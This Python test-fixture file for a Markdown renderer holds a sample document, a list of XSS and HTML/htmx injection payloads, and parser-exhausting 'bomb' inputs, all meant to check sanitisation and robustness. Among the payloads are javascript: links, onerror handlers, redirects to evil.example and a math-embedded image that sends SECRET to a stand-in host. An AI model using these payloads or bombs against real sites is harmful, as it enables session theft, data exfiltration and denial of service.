"""Texts that the renderer must do well on: a sample of everything, attacks, bombs, and the specifications' examples."""

from __future__ import annotations

import json
from pathlib import Path

SAMPLE = """# Title

A paragraph with **bold**, `code`, [a link](http://example.org "title") and ~~nothing~~.

- one
- two

  more of two

1. first
2. second

> quoted
> text

| a | b |
|:--|--:|
| 1 | 2 |

```python
def f(x):
    return "<b>"
```

    indented code

$$
\\frac{a}{b}
$$

- [ ] open
- [x] done

Last *words*.
"""

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<style>body{display:none}</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<form action="//evil.example"><button>x</button></form>',
    "[x](javascript:alert(1))",
    "[x](JaVa\tScript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](\\\\evil.example)",
    '[x](http://a.example "<hx-x data-hx-post=/delete data-hx-trigger=load >")',
    "![<hx-partial>](http://a.example '<hx-partial hx-target=body>')",
    '```<hx-partial hx-target="body">\ncode\n```',
    '```js" onclick="alert(1)\ncode\n```',
    '<hx-partial hx-target="#thread">gone</hx-partial>',
    '<div hx-swap-oob="true" id="thread">gone</div>',
    '<p data-hx-get="/x" hx-on:click="alert(1)" hx-preserve hx-ignore>',
    '<template hx type="partial">',
    '[x]: http://a.example "<script>"\n\n[x]',
    "$<img src=x onerror=alert(1)>$",
    "$$\\text{<script>alert(1)</script>}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "<http://evil.example/?a='\"><script>>",
    'http://evil.example/"onmouseover="alert(1)',
    '<a id="csrf" name="body" class="htmx-indicator" href="http://x.example">x</a>',
    "$\\text{<img/src=https://evil.example/?q=SECRET>}$",
    "$\\tag{<a id=csrf href=/accounts/logout/ class=copy>x</a>}$",
    "$\\tag{<figure class=code><button type=button class=copy>Log in</button>}$",
    "| a | b |\n|--|--|\n| $\\text{</td></tr></tbody></table><p>x}$ | c |\n| d | e |",
    "$$\\tag{<a title='>"
    + "A" * 600
    + '" onclick=alert(1) style=position:fixed;inset:0 x="<\'>x</a>'
    + "y" * 400
    + "}$$",
    "$$\n\\text{<a\tid=csrf\thref=/x>" + "A" * 900 + "</a>}\n$$",
    "x[^<script>]\n\n[^<script>]: y",
    "| <script> | b |\n|--|--|\n| <img src=x onerror=y> | `<svg>` |",
]

BOMBS = [
    "[" * 20_000,
    "![" * 20_000,
    "[a " * 5_000,
    "> " * 500 + "x",
    "- " * 500 + "x",
    "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|a\n" * 400,
    "<" * 100_000,
    "*" * 20_000,
    "_a " * 20_000,
    "`" * 20_000,
    "$" * 20_000,
    "\\(" * 10_000,
    "".join(f"[r{n}]: http://x.example\n" for n in range(10_000)),
    "&" * 50_000,
    "http://" * 10_000,
    "~~" * 10_000,
    "# " * 10_000,
    "1) " * 2_000,
]

DATA = Path(__file__).parent.parent / "data"


def examples(name: str) -> list[str]:
    """The Markdown of a specification's examples."""
    return [example["markdown"] for example in json.loads((DATA / f"{name}.json").read_text("utf-8"))]


SPECIFICATIONS = [*examples("commonmark"), *examples("gfm")]


def pieces_of(text: str, size: int) -> list[str]:
    """The text in pieces of one size."""
    return [text[start : start + size] for start in range(0, len(text), size)]
